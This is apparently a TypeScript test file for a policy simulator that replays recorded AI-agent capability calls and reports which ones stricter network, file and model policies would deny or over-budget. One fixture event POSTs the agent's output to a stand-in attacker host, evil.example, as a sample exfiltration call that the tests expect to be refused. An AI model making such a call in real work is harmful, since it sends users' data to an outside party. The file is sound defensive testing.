import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Layer from "effect/Layer"
import type { Event } from "../src/Event.js"
import * as EventLog from "../src/EventLog.js"
import * as Gateway from "../src/Gateway.js"
import * as Handlers from "../src/Handlers.js"
import { allowAll, parsePolicy, type Policy } from "../src/Policy.js"
import * as Simulate from "../src/Simulate.js"

const policyOf = (json: unknown): Policy => Either.getOrThrow(parsePolicy(JSON.stringify(json)))
const at = (line: number) => ({ file: "agent.ax", line, col: 9, fn: "main" })

const recorded: ReadonlyArray<Event> = [
  { type: "CapCall", capability: "net.fetch", args: ["https://news.example/today"], site: at(2) },
  { type: "CapResult", capability: "net.fetch", result: "page" },
  { type: "UiEmit", tree: "ui" },
  { type: "CapCall", capability: "llm.call", args: ["gpt-4o", "summarise"], site: at(3) },
  { type: "CapResult", capability: "llm.call", result: "s1" },
  { type: "CapCall", capability: "llm.call", args: ["gpt-4o-mini", "again"], site: at(4) },
  { type: "CapResult", capability: "llm.call", result: "s2" },
  { type: "CapCall", capability: "fs.write", args: ["out.txt", "s2"], site: at(5) },
  { type: "CapResult", capability: "fs.write", result: true },
  { type: "CapCall", capability: "net.fetch", args: ["POST", "https://evil.example/x", "s2"], site: at(6) },
  { type: "CapError", capability: "net.fetch", kind: "runtime_error", message: "net.fetch failed: HTTP 500" }
]

describe("Simulate", () => {
  it("the recorded policy itself refuses nothing", () => {
    const r = Simulate.simulate(recorded, allowAll)
    expect(r).toMatchObject({ calls: 5, refusals: [] })
    expect(Simulate.formatReport(r, "allow-all")).toEqual(["policy simulate: all 5 recorded calls would be allowed under allow-all"])
  })

  it("lists every call a tighter policy would deny or push over budget, with event index and source location", () => {
    const tight = policyOf({
      rules: { "net.fetch": { allow: true }, "llm.call": { allow: true, budget: 1 } },
      net_policy: { allowed_domains: ["*.example"], allowed_methods: ["GET"] }
    })
    const r = Simulate.simulate(recorded, tight)
    expect(r.refusals.map((f) => [f.index, f.capability, f.kind])).toEqual([
      [5, "llm.call", "budget_exceeded"],
      [7, "fs.write", "denied"],
      [9, "net.fetch", "denied"]
    ])
    expect(Simulate.formatReport(r, "tight.json")).toEqual([
      "policy simulate: 3 of 5 recorded calls would be refused under tight.json (2 allowed, 2 denied, 1 over budget)",
      `  event #5: llm.call("gpt-4o-mini", "again") at agent.ax:4:9 in main: budget_exceeded: call 2 of budget 1`,
      `  event #7: fs.write("out.txt", "s2") at agent.ax:5:9 in main: denied: not granted by policy`,
      `  event #9: net.fetch("POST", "https://evil.example/x", "s2") at agent.ax:6:9 in main: denied: method POST is not in net_policy.allowed_methods [GET]`
    ])
  })

  it("the knobs judged from arguments: allowed_domains, read_only, allowed_models", () => {
    const knobs = policyOf({
      default_allow: true,
      net_policy: { allowed_domains: ["api.example"] },
      fs_policy: { read_only: true },
      llm_policy: { allowed_models: ["gpt-4o"] }
    })
    const r = Simulate.simulate(recorded, knobs)
    expect(r.refusals.map((f) => [f.index, f.reason])).toEqual([
      [0, "host 'news.example' is not in net_policy.allowed_domains [api.example]"],
      [5, "model 'gpt-4o-mini' is not in llm_policy.allowed_models [gpt-4o]"],
      [7, "fs_policy.read_only is set: writes are not allowed"],
      [9, "host 'evil.example' is not in net_policy.allowed_domains [api.example]"]
    ])
  })

  it.effect("budget counting matches the gateway's: a run under the other policy is refused at the same calls", () =>
    Effect.gen(function*() {
      const other = policyOf({ rules: { random: { allow: true, budget: 2 }, "time.now": { allow: true } } })
      const calls = ["random", "time.now", "random", "random", "random"] as const
      const live = yield* Effect.provide(
        Effect.forEach(calls, (c) => Effect.either(Gateway.call(c, []))),
        Gateway.layer(allowAll).pipe(Layer.provideMerge(Layer.merge(Handlers.demo, EventLog.memory)))
      )
      expect(live.every(Either.isRight)).toBe(true)
      const events = yield* Effect.provide(
        Effect.zipRight(Effect.forEach(calls, (c) => Effect.either(Gateway.call(c, []))), Effect.map(EventLog.EventLog, (l) => l.events())),
        Gateway.layer(allowAll).pipe(Layer.provideMerge(Layer.merge(Handlers.demo, EventLog.memory)))
      )
      const underOther = yield* Effect.provide(
        Effect.forEach(calls, (c) => Effect.either(Gateway.call(c, []))),
        Gateway.layer(other).pipe(Layer.provideMerge(Layer.merge(Handlers.demo, EventLog.memory)))
      )
      const refusedIdx = underOther.flatMap((r, i) => (Either.isLeft(r) ? [i] : []))
      const sim = Simulate.simulate(events, other)
      // call i is at event 2i (CapCall, CapResult pairs)
      expect(sim.refusals.map((f) => f.index / 2)).toEqual(refusedIdx)
      expect(refusedIdx).toEqual([3, 4])
    }))
})

describe("Simulate: calls the recorded run was refused", () => {
  const refusedRun: ReadonlyArray<Event> = [
    { type: "CapCall", capability: "net.fetch", args: ["https://news.example/today"], site: at(2) },
    { type: "CapResult", capability: "net.fetch", result: "page" },
    { type: "CapRefused", capability: "db.query", args: ["select 1"], kind: "denied", message: "capability denied: db.query: not granted by policy", site: at(3) }
  ]

  it("a wider policy would let the refused call through, and the report says the log stops there", () => {
    const r = Simulate.simulate(refusedRun, allowAll)
    expect(r).toMatchObject({ calls: 2, allowed: 2, denied: 0, overBudget: 0, refusals: [], stoppedAt: 2 })
    expect(r.admitted.map((a) => [a.index, a.capability, a.recorded])).toEqual([[2, "db.query", "denied"]])
    expect(Simulate.formatReport(r, "allow-all")).toEqual([
      "policy simulate: all 2 recorded calls would be allowed under allow-all, including 1 the recorded run was refused",
      `  event #2: db.query("select 1") at agent.ax:3:9 in main: allowed (the recorded run was refused it: capability denied: db.query: not granted by policy)`,
      "  the recorded run stopped at event #2, where its call was refused: the calls it would have made after it are not in the log, so this report cannot judge them"
    ])
  })

  it("a policy that refuses it too says so; over-budget refusals are counted like the gateway counts them", () => {
    const onlyNet = policyOf({ rules: { "net.fetch": { allow: true, budget: 1 } } })
    const r = Simulate.simulate([...refusedRun.slice(0, 2), { type: "CapRefused", capability: "net.fetch", args: ["https://x.example/"], kind: "budget_exceeded", message: "capability budget exceeded: net.fetch (budget 1)" }], onlyNet)
    expect(r).toMatchObject({ calls: 2, allowed: 1, denied: 0, overBudget: 1, admitted: [], stoppedAt: 2 })
    expect(Simulate.formatReport(r, "net.json")[1]).toBe(
      `  event #2: net.fetch("https://x.example/"): budget_exceeded: call 2 of budget 1 (refused in the recorded run too: budget_exceeded)`
    )
    const denied = Simulate.simulate(refusedRun, policyOf({ rules: { "net.fetch": { allow: true } } }))
    expect(denied.refusals.map((f) => [f.index, f.kind, f.recorded])).toEqual([[2, "denied", "denied"]])
  })
})
